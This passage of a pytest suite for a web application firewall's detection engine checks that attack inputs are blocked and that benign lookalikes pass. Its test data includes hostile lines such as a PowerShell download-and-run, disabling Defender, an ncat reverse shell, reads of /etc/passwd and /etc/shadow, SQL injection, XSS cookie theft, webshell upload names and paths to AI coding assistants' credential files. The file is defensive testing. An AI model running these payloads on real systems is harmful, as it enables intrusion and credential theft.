    own session resource (Stripe's session_id) pass; the cookie seen clean first does not
    let the parameter through."""
    as_cookie = make_request("/v1/me", headers=[("Cookie", "PHPSESSID=0123abcd; theme=dark")])
    own_link = make_request(
        "/v1/orders;x?jsessionid=74B0CB41", headers=[("Referer", "https://api.example.com/v1/cart")]
    )
    stripe = make_request("/v1/checkout/done?session_id=cs_test_a1b2c3")
    for request in (as_cookie, own_link, stripe):
        assert engine.evaluate(request).block_category is None, request.raw_target
    assert engine.evaluate(make_request("/v1/login?phpsessid=0123abcd")).block_category == "crlf"


# ---------------------------------------- 14. an upload named as something the server runs
def _upload(filename: str) -> Request:
    body = (
        "--b0undary\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
        "GIF89a\r\n"
        "--b0undary--\r\n"
    )
    return make_request("/v1/uploads", method="POST", body=body, content_type="multipart/form-data; boundary=b0undary")


@pytest.mark.parametrize(
    "filename",
    ["avatar.pHp5", "shell.phtml...", "img.asp;.jpg", "x.jspx ", "uploads\\.htaccess", ".user.ini", "a.php%00.png",
     "sess_9f8e7d6c5b4a3f2e", "theme. phtml", "cmd .  asp", "wp-config.php.save", "wp-config-old.txt"],
)
def test_an_upload_named_as_a_script_or_server_file_is_blocked(engine: DetectionEngine, filename: str) -> None:
    """A multipart part's file name and an X-File-Name header that a web server would run
    (PHP, JSP, ASP, with the tricks servers strip: trailing dots, ';', a NUL, spaces around
    the extension), a server's own configuration file (a copy of WordPress's too) or a PHP
    session file are refused."""
    verdict = engine.evaluate(_upload(filename))
    assert verdict.block_category is not None, (filename, verdict.log_record())
    assert 3041 in {h.rule.id for h in verdict.hits} or "%" in filename
    header = engine.evaluate(make_request("/v1/uploads", method="PUT", headers=[("X-File-Name", filename)]))
    assert header.block_category is not None, (filename, header.log_record())


@pytest.mark.parametrize(
    "filename", ["photo.jpg", "report.php.md", "cert.cer", "session_notes.txt", "php", "README", "notes. txt", "wp.png"]
)
def test_ordinary_upload_names_pass(engine: DetectionEngine, filename: str) -> None:
    """Images, documents, certificates and names that only mention PHP pass as uploads."""
    assert engine.evaluate(_upload(filename)).block_category is None
    header = make_request("/v1/u", method="PUT", headers=[("X-Filename", filename)])
    assert engine.evaluate(header).block_category is None


def test_a_script_name_is_only_an_upload_name_in_an_upload() -> None:
    """"index.php" in a JSON field is text (it passes), and remembering it clean there does
    not let it through as an upload's name."""
    from bastion.stages.detection import DetectionConfig

    fresh = DetectionEngine(DetectionConfig())
    text = make_request("/v1/n", method="POST", body=json.dumps({"page": "index.php"}), content_type="application/json")
    assert fresh.evaluate(text).block_category is None
    assert fresh.evaluate(make_request("/v1/u", method="PUT", headers=[("X-Filename", "index.php")])).block_category


# ------------------------- 15. call probes, and paths into coding assistants' configuration
@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("pg_read_file (", "sqli"),  # 1033
        ("Floor(", "sqli"),
        (".claude/settings.local.json", "path_traversal"),  # 4010
        ("srv/app/.cursor/mcp.json", "path_traversal"),
        ("~/.codex/auth.json", "path_traversal"),
        (".aiignore", "path_traversal"),
    ],
)
def test_call_probes_and_assistant_configuration_paths_are_blocked(
    engine: DetectionEngine, payload: str, category: str
) -> None:
    """A value that is only a function name and "(", and a path into a coding assistant's
    configuration (API keys, MCP tokens), are refused in every location."""
    blocked_everywhere(engine, payload, category)


@pytest.mark.parametrize(
    "text",
    [
        "See the note (attached)",
        "f(x) = x + 1",
        "Add your rules to .cursor/rules in the repo root, then restart",
        "I keep my prompts in ~/.claude because it is handy",
        "https://docs.example.com/.well-known/openid-configuration",
        ".gitignore",
    ],
)
def test_calls_in_prose_and_tool_names_in_sentences_pass(engine: DetectionEngine, text: str) -> None:
    """Parentheses with something in them, and a sentence naming a tool's directory, pass."""
    passes_everywhere(engine, text)


# ------------------------------------------- 16. script that reaches globals without a name
@pytest.mark.parametrize(
    "payload",
    [
        'window["con"+"firm"](1)',
        "globalThis /*x*/ ['document']",
        "(window)['location']='//x.example'",
        "(![]+[])[+!+[]]",
        "background:url( 'javascript:run()')",
        "<?import implementation=\"#default#time2\">",
        "document.body.appendChild(x)",
        "<v:vmlframe src=\"x.example/a.fml\"/>",
    ],
)
def test_script_reaching_browser_globals_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A global's member taken by a string, JSFuck, CSS url(javascript:), IE's import and
    DOM writes are refused wherever they can be sent."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category == "xss", (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "Open a new window [see the screenshot]",
        "top ['a', 'b'] results",
        "return self['name']",
        "+[] is an empty list in my notes",
        "background: url('/img/bg.png')",
        "the document (PDF) is attached",
    ],
)
def test_prose_about_windows_and_documents_passes(engine: DetectionEngine, text: str) -> None:
    """Windows, documents, lists and CSS background images in text pass."""
    passes_everywhere(engine, text)


# ------------------------------------------------- 17. PowerShell, and more shell spellings
@pytest.mark.parametrize(
    "payload",
    [
        "Invoke-WebRequest -Uri https://x.example/p.ps1 -OutFile p.ps1",
        "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File run.ps1",
        "powershell -enc SQBFAFgA",
        "Start-Process 'C:\\Temp\\payload.exe'",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "[System.Convert]::FromBase64String($b)",
        "alias -g ls='rm -rf'",
        "x; bash$IFSx -c id",
        "cat /[e//]tc/[p//]asswd",
        "/usr/[a-z]in/nc -e sh",
        "IF EXIST \"C:\\backup.zip\" del C:\\backup.zip",
        "if ERRORLEVEL 2 if not errorlevel 3 goto x",
    ],
)
def test_powershell_and_more_shell_spellings_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """PowerShell downloads, execution and defence changes, aliases with options, a shell
    named with an empty variable glued to it, bracket globs with slashes or ranges and
    more cmd.exe IF forms are refused wherever they can be sent."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "Use Invoke-WebRequest to download the installer",
        "Start-Process is the cmdlet you want",
        "Open PowerShell and run the script",
        "items[a-z] match letters",
        "/api/users[id]/roles",
        "an alias is a name",
    ],
)
def test_prose_about_powershell_and_brackets_passes(engine: DetectionEngine, text: str) -> None:
    """Sentences about PowerShell cmdlets, character classes and bracketed route names pass."""
    passes_everywhere(engine, text)


# ------------------------------------------------------ 18. remote includes, by their shape
@pytest.mark.parametrize(
    "payload",
    ["https://x.example/shell.txt?", "ftps?", "http://93.184.216.34/k.php", "http://[2a00:1450:4001::7]/a.jsp",
     "ftp://93.184.216.34"],
)
def test_remote_include_shapes_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """A URL ending in '?' as a whole value, a script on a bare IP address and an FTP URL
    to an IP address are refused wherever they are."""
    blocked_everywhere(engine, payload, "rfi")


@pytest.mark.parametrize(
    "text",
    ["Is it http?", "https://shop.example/cart?item=3", "http://93.184.216.34/status", "see https://x.example/"],
)
def test_ordinary_urls_pass(engine: DetectionEngine, text: str) -> None:
    """Questions, URLs with a query, and a page (not a script) on an IP address pass."""
    passes_everywhere(engine, text)


# ---------------------------------------- 19. a form sent under another content type
@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream", "application/x-custom", None])
@pytest.mark.parametrize(
    ("body", "category"),
    [("loader=org.apache.commons.collections", "cmdi"), ("page=2&sort=name&cmd=%3Bcat%20%2Fetc%2Fshadow", "cmdi")],
)
def test_a_form_shaped_body_of_another_type_is_inspected_as_a_form(
    engine: DetectionEngine, content_type: str | None, body: str, category: str
) -> None:
    """A body that reads as ``name=value&...`` is inspected field by field whatever type it
    declares: lenient servers parse it as a form, and whole-value rules see each value."""
    verdict = engine.evaluate(make_request("/v1/jobs", method="POST", body=body, content_type=content_type))
    assert verdict.block_category == category, verdict.log_record()


@pytest.mark.parametrize(
    "body",
    [
        "loader = org.apache.commons.collections is the package we use",
        "HOST=db\nPORT=5432\nCLASS=java.io.File\n",
        "a,b,c\n1,2,java.io.File\n",
        "sort=name&page=2&q=blue%20shoes",
    ],
)
def test_text_bodies_that_are_not_forms_or_are_benign_forms_pass(engine: DetectionEngine, body: str) -> None:
    """Prose, a multi-line configuration file, CSV and an ordinary form sent as text/plain
    pass: only a one-line ``name=value`` body is read as a form."""
    verdict = engine.evaluate(make_request("/v1/notes", method="POST", body=body, content_type="text/plain"))
    assert verdict.block_category is None, verdict.log_record()


# ------------------------------------------------------- 20. a value that is only a call
@pytest.mark.parametrize(
    "payload",
    [
        "mb_send_mail()",
        "proc_nice(priority)",
        "app.config.update(debug)",
        "Runtime.getRuntime().exec(cmd)",
        "readfile (uploads)",
        "getattr(os, 'system')",
        "assert(chr(115).chr(121))",
        "render('home');",
        "lookup(concat(a,b))",
        "console.warn(2)",
        'console["log"](1)',
        "process.env",
        "process['env']",
        "module.exports = ",
        "function () {",
    ],
)
def test_a_value_that_is_only_a_function_call_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A snake_case or dotted callee, a builtin that runs, reads or decodes, or any call
    passed a string or another call, as a whole value, is refused wherever it is; so are
    Node's environment, exports and an opened function as a whole value."""
    blocked_everywhere(engine, payload, "cmdi")


@pytest.mark.parametrize(
    "text",
    [
        "Copy (2)",
        "Apple(US)",
        "IMG_2041(1)",
        "report.v2(3)",
        "user_name (admin)",
        "ecosystem()",
        "max(a, b) is the larger",
        "call print_r() to debug",
        "Size(XL)",
        "SUM(A1:A3)",
        "set process.env.PORT before you start",
        "module exports",
    ],
)
def test_names_with_a_parenthesis_and_calls_in_prose_pass(engine: DetectionEngine, text: str) -> None:
    """Product and file names with a copy number or a note in parentheses, a word with an
    empty call, formulas and calls inside a sentence pass."""
    passes_everywhere(engine, text)


# ----------------------------------------- 21. a value that starts a SQL probe or fragment
@pytest.mark.parametrize(
    "payload",
    [
        "SELECT SLEEP(5)",
        "select  pg_sleep (3)",
        "SELECT IF(1=1, 'a', 'b')",
        "select version()",
        "'select current_user()",
        "SELECT id GROUP BY id HAVING count(id) > 1",
        "') SELECT password FROM accounts",
        "\") UNION SELECT 1",
        "'{\"role\": \"admin\"}'::jsonb <@ '{}'",
        "'[1, 2]'::json ->> 0",
    ],
)
def test_a_value_that_starts_a_sql_probe_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that opens with a SELECT of a timing, branching or identity function, a
    SELECT of one item straight to GROUP BY or HAVING, a SELECT or UNION after a
    parenthesis that closes the query's own, or a quoted JSON literal cast to json and
    given to a JSON operator, is refused wherever it is."""
    blocked_everywhere(engine, payload, "sqli")


@pytest.mark.parametrize(
    "text",
    [
        "SELECT name, email FROM customers WHERE country = 'IE' ORDER BY name;",
        "SELECT count(*) FROM orders GROUP BY status",
        "Select items from the list",
        "Select size, colour",
        "Delete from cart",
        "Create table for 4 people",
        "select a plan",
        "(see above) select one",
        "'{\"a\": 1}'::jsonb",
        '{"filter": "a - b"}',
    ],
)
def test_whole_queries_and_labels_pass(engine: DetectionEngine, text: str) -> None:
    """A whole query as a snippet API carries it, and labels and sentences that start
    with SELECT, DELETE or CREATE, pass: only a probe's or a fragment's start is refused."""
    passes_everywhere(engine, text)


# ------------------------------------------- 22. the sending page's address is not a fetch
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Referer", "http://localhost:3000/app/orders"),
        ("Origin", "http://localhost:5173"),
        ("Referer", "http://192.168.1.20:8080/dashboard"),
    ],
)
def test_the_sending_pages_address_is_not_a_server_side_request(engine: DetectionEngine, name: str, value: str) -> None:
    """A front-end served from localhost or a LAN address (development) sends its address in
    Referer and Origin; no server fetches it, so it is not refused as SSRF, while the same
    URL in a parameter or another header still is, and other rules still read those headers."""
    assert engine.evaluate(make_request("/v1/orders", headers=[(name, value)])).block_category is None
    in_a_parameter = make_request(f"/v1/fetch?url={quote(value, safe='')}", headers=[(name, value)])
    assert engine.evaluate(in_a_parameter).block_category == "ssrf"
    in_a_callback = make_request("/v1/hooks", headers=[("X-Callback-Url", value)])
    assert engine.evaluate(in_a_callback).block_category == "ssrf"
    script = make_request("/v1/orders", headers=[(name, value + "/<script>alert(1)</script>")])
    assert engine.evaluate(script).block_category == "xss"


# ------------------------------------------ 23. an LDAP filter closed, joined and reopened
@pytest.mark.parametrize(
    "payload", ["jdoe)!(mail=*", "svc)&(memberOf=cn=admins", "printer)|(cn=*", "guest)(&", "x) ( | "]
)
def test_ldap_filters_joined_by_an_operator_or_left_open_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that closes the application's filter and opens another joined by an
    operator, or leaves an operator open at its end, is refused wherever it is."""
    blocked_everywhere(engine, payload, "ldapi")


@pytest.mark.parametrize("text", ["(see above)!(really)", "Team (EU) & (US)", "done :) (finally)", "call me (maybe)!"])
def test_parentheses_in_prose_are_not_ldap_filters(engine: DetectionEngine, text: str) -> None:
    """Asides, lists and emoticons in parentheses pass."""
    passes_everywhere(engine, text)


# ------------------------------------------------- 24. an upload named out of its folder
@pytest.mark.parametrize("filename", ["../avatar.png", "..\\report.pdf", "a/../../cron.d/job", ".. /x.txt"])
def test_an_upload_named_with_a_parent_folder_is_blocked(engine: DetectionEngine, filename: str) -> None:
    """An upload's file name (a multipart part's, an X-File-Name header) with a parent-folder
    segment is refused as path traversal: joined to the upload folder, or kept by an archive
    tool, it writes outside it."""
    verdict = engine.evaluate(_upload(filename))
    assert verdict.block_category == "path_traversal", verdict.log_record()
    assert 4011 in {h.rule.id for h in verdict.hits}
    header = engine.evaluate(make_request("/v1/uploads", method="PUT", headers=[("X-File-Name", filename)]))
    assert header.block_category == "path_traversal", header.log_record()


@pytest.mark.parametrize("filename", ["report..final.pdf", "..hidden-notes.txt", "photos/2026/beach.png", "v1.2.3.zip"])
def test_upload_names_with_dots_pass(engine: DetectionEngine, filename: str) -> None:
    """Names with double dots inside a name, a folder path going down and version numbers pass."""
    assert engine.evaluate(_upload(filename)).block_category is None


# ------------------------ 25. a request line as a value; a handler after an attribute's end
@pytest.mark.parametrize(
    "payload", ["GET http://intranet.example/ HTTP/1.1", "DELETE /v1/users/7 HTTP/1.0", "head / http/2"]
)
def test_a_value_that_is_a_request_line_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that is an HTTP request line (what smuggling and splitting payloads make a
    server read as its next request) is refused wherever it can be sent."""
    for where, request in placements(payload).items():
        if where == "path":
            continue  # a slash-split request line is a path, not a value
        verdict = engine.evaluate(request)
        assert verdict.block_category == "crlf", (where, verdict.log_record())


@pytest.mark.parametrize("payload", [" onfocus=", "  onpointerenter = ", "\tformaction="])
def test_a_handler_opened_after_an_unquoted_attributes_end_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that starts with the spaces ending an unquoted attribute and opens an event
    handler is refused in a query value, a form field, a JSON field and a parameter name."""
    enc = quote(payload, safe="")
    for request in (
        make_request(f"/v1/items?q={enc}"),
        make_request(f"/v1/items?{enc}=1"),
        make_request("/v1/items", method="POST", body=f"q={enc}", content_type="application/x-www-form-urlencoded"),
        make_request("/v1/items", method="POST", body=json.dumps({"q": payload}), content_type="application/json"),
    ):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "xss", verdict.log_record()


@pytest.mark.parametrize(
    "text", ["Send GET /users HTTP/1.1 to list them", "GET it done", " online=true", "onload=init", "HTTP/1.1 200 OK"]
)
def test_request_lines_in_sentences_and_handler_words_pass(engine: DetectionEngine, text: str) -> None:
    """A request line inside a sentence, words starting with "on", a handler name without
    the leading spaces and a status line pass."""
    passes_everywhere(engine, text)


# -------------------------------------------------- 26. a value that is a PHP configuration line
@pytest.mark.parametrize(
    "payload",
    ["auto_prepend_file = /tmp/x", "allow_url_include=On", "opcache.file_cache=/tmp", "disable_functions=none",
     "mbstring.func_overload=7", "memory_limit=-1"],
)
def test_a_value_that_is_a_php_configuration_line_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that sets a directive changing what PHP runs, includes, loads or limits, or
    one of the namespaces only PHP has, is refused wherever it is."""
    blocked_everywhere(engine, payload, "cmdi")


@pytest.mark.parametrize(
    "text",
    ["engine=v8", "extension=.png", "session.timeout=30", "precision = high", "set memory_limit to 512M in php.ini"],
)
def test_settings_shared_with_other_software_pass(engine: DetectionEngine, text: str) -> None:
    """Generic setting names other software uses, and a sentence about a PHP directive, pass."""
    passes_everywhere(engine, text)


# ------------------------------------------- 27. a cmd.exe IF comparison at a value's start
def in_values(payload: str) -> list[Request]:
    """``payload`` as a query value, a JSON field and a form field (cmd.exe's quotes and
    slashes cannot be sent in a path segment or a cookie as they are)."""
    enc = quote(payload, safe="")
    return [
        make_request(f"/v1/jobs?step={enc}"),
        make_request("/v1/jobs", method="POST", body=json.dumps({"step": payload}), content_type="application/json"),
        make_request("/v1/jobs", method="POST", body=f"step={enc}", content_type="application/x-www-form-urlencoded"),
    ]


@pytest.mark.parametrize(
    "payload",
    ['IF "%~1"=="" GOTO usage', "if /i [%2]==[--force] x", "if not {%1} == {}", "if/i a==b run", "IF %1==%2",
     'if /i not "x"=="y"  then'],
)
def test_a_value_that_starts_with_a_cmd_if_comparison_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """cmd.exe's IF with its own operand forms (quoted, bracketed, braced, a batch argument)
    or a spaceless ``==``, at a value's start, is refused whatever follows it."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    ["if x == 1:\n    run()", "if (a == b) { go(); }", "if a == b then print(a) end", "If you==me, say so",
     "if the total is over 100 we ship free", "if a==b:", "Gift if \"boxed\" == yes"],
)
def test_if_in_code_and_prose_passes(engine: DetectionEngine, text: str) -> None:
    """Python, C-like and Lua tests (spaces around ``==``, a colon or parentheses), prose
    that starts with "if", and an IF that is not at the value's start pass."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id != 3045 for h in verdict.hits), (text, verdict.log_record())


# ------------------------------------------ 28. shell arithmetic and parameter expansion
@pytest.mark.parametrize("payload", ["$((7*6))", "x$(($(id) 42))", "$[2+2]", "$[]", "${PATH#/usr}", "a${x#{}}b"])
def test_shell_arithmetic_and_prefix_stripping_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """``$((...))``, a whole-value ``$[...]`` and ``${name#...}``, which a shell evaluates in
    a string it builds, are refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text", ["Total: ${total}", "items.$[].qty", "items.$[elem].qty", "${PORT:-8080}", "cost $(5) each", "$[ok]"]
)
def test_templates_mongodb_paths_and_defaults_pass(engine: DetectionEngine, text: str) -> None:
    """A JavaScript template, MongoDB's positional operators inside a path, a configuration
    default and prices in parentheses do not hit the expansion rule."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id != 3046 for h in verdict.hits), (text, verdict.log_record())


# ------------------------------------ 29. a word, its closing quote and the statement's end
@pytest.mark.parametrize(
    "payload", ["admin@example.com';", 'root@example.org"--', "alice`;", "bob'/* why */;", " carol' #"]
)
def test_a_word_closed_by_a_quote_and_ended_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """One word, the quote that closes the SQL string it was pasted into, then ``;``, ``--``
    or ``#`` (the classic login bypass) is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "sqli", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text", ["O'Brien;", "'quoted';", "x = 'a';", "print(\"hi\");", "It's fine; thanks", "#hashtag", "rock 'n' roll;"]
)
def test_quotes_in_names_code_and_prose_pass(engine: DetectionEngine, text: str) -> None:
    """An apostrophe inside a name, a whole quoted string, code that ends a statement and
    prose do not hit the rule."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id != 1035 for h in verdict.hits), (text, verdict.log_record())


# --------------------------------------------- 30. PHP calls of a function named by a variable
@pytest.mark.parametrize("payload", ["$foo->$fn()", "Foo::$variable()", "$ {x}(31);", "$o -> $m ('id')"])
def test_php_variable_function_calls_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """A method or static method called through a variable name is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, verdict.log_record())


@pytest.mark.parametrize("text", ["$user->name()", "Foo::bar()", "price: $ 5 (incl. tax)", "a -> $b", "std::$x"])
def test_ordinary_method_calls_and_prices_pass(engine: DetectionEngine, text: str) -> None:
    """Calls of named methods, prices and arrows pointing at a variable without a call pass."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id != 3047 for h in verdict.hits), (text, verdict.log_record())


# ------------------------------------------ 31. a value that is a command line (issue 19, sixth round)
@pytest.mark.parametrize(
    "payload",
    [
        "lsblk -f",  # a program that is not a word, an option
        "xzcat /srv/backups/db.xz",  # ... a path
        "nslookup internal.example.net",  # ... a host name
        "nmap 192.0.2.0/24",  # ... an address
        "systemctl|wc",  # ... a pipe
        "; 'visudo' -c",  # after a chain operator, quoted
        "&& netsh advfirewall show allprofiles",  # Windows
        "wevtutil qe Security /c:5",
        "certutil -decode a.b64 a.exe",
        "/usr/bin/journalctl -xe",
        "sort -u /var/lib/app/users.txt",  # a program named like a word, with an option
        "tail --follow=name app.log",
        "find ~/ -type f",
        "date > /tmp/out",  # ... a redirection
        "time sh -c id",  # a word, then a program with an argument
        "nohup ncat -e sh 198.51.100.4 4444",
        ";pkill",  # alone after a chain operator
        "| dmesg",
        "bin/useradd",  # a bin directory's file
        "/usr/local/sbin/iptables",
        "/usr/bin/anything",
        "time; visudo",  # a program chained to a program (3049)
        "sudo tcpdump",  # a prefix that runs a program
        "python3.11 -c 1",  # a versioned interpreter
        "ansible-pull -U https://git.example.net/x",  # a tool family
        "report.pdf& bcdboot /r x",  # anywhere, after a separator (3051)
        "a; regedit /E out.reg",
    ],
)
def test_a_value_that_is_a_command_line_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A program Unix-like or Windows systems ship, at a value's start, with an argument
    only a shell gives it (an option, a system path, a redirection, an address, a pipe),
    after a prefix that runs it or chained to another, alone after a chain operator or in
    a bin directory, or anywhere after a separator with an option, is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "time is of the essence",
        "ping pong tables",
        "head-to-head comparison",
        "head of marketing",
        "sort by price, then by name",
        "find x for y",
        "curl examples",
        "Kubernetes and docker compose tutorial",
        "python",
        "docker",
        "Type of issue: billing / invoice",
        "Set up failed at step 3",
        "Curl 8.5.0 released",
        "tar is a dark brown liquid",
        "I ran `tar -xzf backup.tar.gz` and it failed",
        "Grep through the logs for 'timeout' and send me the lines.",
        "date: 2026-12-07",
        "Less urgent: the invoice shows the wrong VAT number.",
        "bin/setup",
        "gzip;q=1.0, identity; q=0.5, *;q=0",
    ],
)
def test_prose_starting_with_a_program_name_passes(engine: DetectionEngine, text: str) -> None:
    """Prose and search queries that start with a word that names a program, a program's
    name alone (a tag), a version number after it, a command quoted inside a sentence and
    an Accept-Encoding list do not hit the rules."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id not in (3048, 3049, 3050, 3051) for h in verdict.hits), (text, verdict.log_record())


# ------------------------------- 32. system databases as a value, the tail of a select list
@pytest.mark.parametrize(
    "payload", ["tempdb", " MSDB ", "`sysibm`", "[sqlite_temp_master]", "pg_toast", "Sakila", "mysql.tables_priv"]
)
def test_a_value_that_is_a_system_database_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that is only one of the databases, schemas or catalogue tables every
    installation of an SQL engine has (or a sample database its installer ships) is the
    name an injection reads from, and is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "sqli", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "payload", ["` as `uid` FROM", "9 AS \"x\" from accounts", "' as ' FROM t", "`a` AS `b` from orders"]
)
def test_the_tail_of_a_select_list_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A quoted alias then FROM, starting the value or with MySQL's backtick quoting, is
    what completes the application's own SELECT, and is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "sqli", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "master",
        "model",
        "Our DBA says tempdb grows every night",
        "temp db",
        "5 as well from the store",
        '"Known as" from the album',
        "Select the blue one as \"primary\" from the list",
    ],
)
def test_database_words_and_as_in_prose_pass(engine: DetectionEngine, text: str) -> None:
    """Names of system databases that are words, a system database named in a sentence, and
    "as" before "from" in prose pass."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert verdict.block_category is None, (text, verdict.log_record())


# ------------------------------------------ 33. a value that is a browser global's sensitive member
@pytest.mark.parametrize(
    "payload", ["window.location", "document.cookie", "document.cookie=sid=1", "top.location.href", "window.name",
                "document . domain", "window.opener"],
)
def test_a_value_that_is_the_pages_address_or_cookies_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that only reads or assigns the page's address, cookies, domain or the
    window's name or opener is refused."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "xss", (payload, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "window.location.href = '/login'; console.log('redirected');",
        "Use window.location to redirect",
        "the document name field",
        "window",
        "document.getElementById('app')",
        "self.name = name",
        "document.url",
        "parent.name",
        "parent.location",
    ],
)
def test_snippets_and_prose_about_the_page_pass(engine: DetectionEngine, text: str) -> None:
    """A snippet that goes on after such a member, prose naming one, a Python attribute
    assignment and the dotted field names APIs use ("document.url", "parent.name") pass."""
    for request in in_values(text):
        verdict = engine.evaluate(request)
        assert all(h.rule.id != 2027 for h in verdict.hits), (text, verdict.log_record())


# ------------------------------------------ 34. a path of names is not script
@pytest.mark.parametrize(
    "target",
    [
        "/docs/javascript/reference/document.cookie",
        "/wiki/Window.location",
        "/api/v2/manual/dom/document.domain/examples",
        "/kb/window.opener",
    ],
)
def test_a_path_of_names_naming_the_pages_cookies_passes(engine: DetectionEngine, target: str) -> None:
    """A manual's or a wiki's path that names a browser global's member, made of letters,
    digits, ``-._~`` and slashes only, passes: it can open no tag, make no call and assign
    nothing, so what it names is not script."""
    verdict = engine.evaluate(make_request(target))
    assert verdict.block_category is None, (target, verdict.log_record())


@pytest.mark.parametrize(
    "target",
    [
        "/docs/document.cookie=1",
        "/docs/x'+document.cookie+'",
        "/docs/%64ocument.cookie",
        "/docs/document.cookie%3d1",
        "/docs/<script>document.cookie",
        "/docs/javascript:alert(document.cookie)",
    ],
)
def test_a_path_with_code_characters_naming_the_cookies_is_blocked(engine: DetectionEngine, target: str) -> None:
    """The same names in a path with anything else (an escape, a quote, ``=``, ``<``, ``:``)
    keep every XSS rule and are refused."""
    verdict = engine.evaluate(make_request(target))
    assert verdict.block_category == "xss", (target, verdict.log_record())


def test_a_path_segment_of_base64_script_is_still_blocked(engine: DetectionEngine) -> None:
    """A segment made of name characters that is base64 of script (its decoded view holds
    the tag and the call) keeps every XSS rule."""
    segment = base64.urlsafe_b64encode(b"<svg onload=alert(document.domain)>").decode().rstrip("=")
    verdict = engine.evaluate(make_request(f"/v1/files/{segment}"))
    assert verdict.block_category == "xss", verdict.log_record()


# ------------------------------------------ 35. XMP metadata is XML, not markup a browser runs
#: An XMP packet as photo and PDF tools write one (our own: title, creator, rights).
XMP_PACKET = (
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Harbour at dusk</rdf:li></rdf:Alt></dc:title>'
    "<dc:creator><rdf:Seq><rdf:li>Aoife O'Brien</rdf:li></rdf:Seq></dc:creator>"
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
    '<?xpacket end="w"?>'
)


def test_xmp_metadata_in_a_form_or_json_field_passes(engine: DetectionEngine) -> None:
    """An image's or a PDF's XMP packet sent as a field (an asset API's metadata) passes:
    its elements have namespace prefixes (``<x:xmpmeta>``), which no browser runs."""
    requests = [
        make_request(
            "/v1/assets",
            method="POST",
            body="title=harbour&metadata=" + quote(XMP_PACKET, safe=""),
            content_type="application/x-www-form-urlencoded",
        ),
        make_request(
            "/v1/assets", method="POST", body=json.dumps({"metadata": XMP_PACKET}), content_type="application/json"
        ),
    ]
    for request in requests:
        verdict = engine.evaluate(request)
        assert verdict.block_category is None, verdict.log_record()


@pytest.mark.parametrize(
    "payload", ["<x onclick=alert(1)>", "<a:b onmouseover=alert(1)>", "<x:script>alert(1)</x:script>"]
)
def test_prefixed_or_bare_x_elements_with_script_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """A namespaced or an ``<x>`` element that carries a handler or a script is refused."""
    blocked_everywhere(engine, payload, "xss")


# ------------------------------------------ 36. an SVG document is drawn, what runs in it is not
@pytest.mark.parametrize(
    "svg",
    [
        '<?xml version="1.0"?><svg></svg>',
        '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
        '<circle cx="8" cy="8" r="7" fill="#2a9d8f"/></svg>',
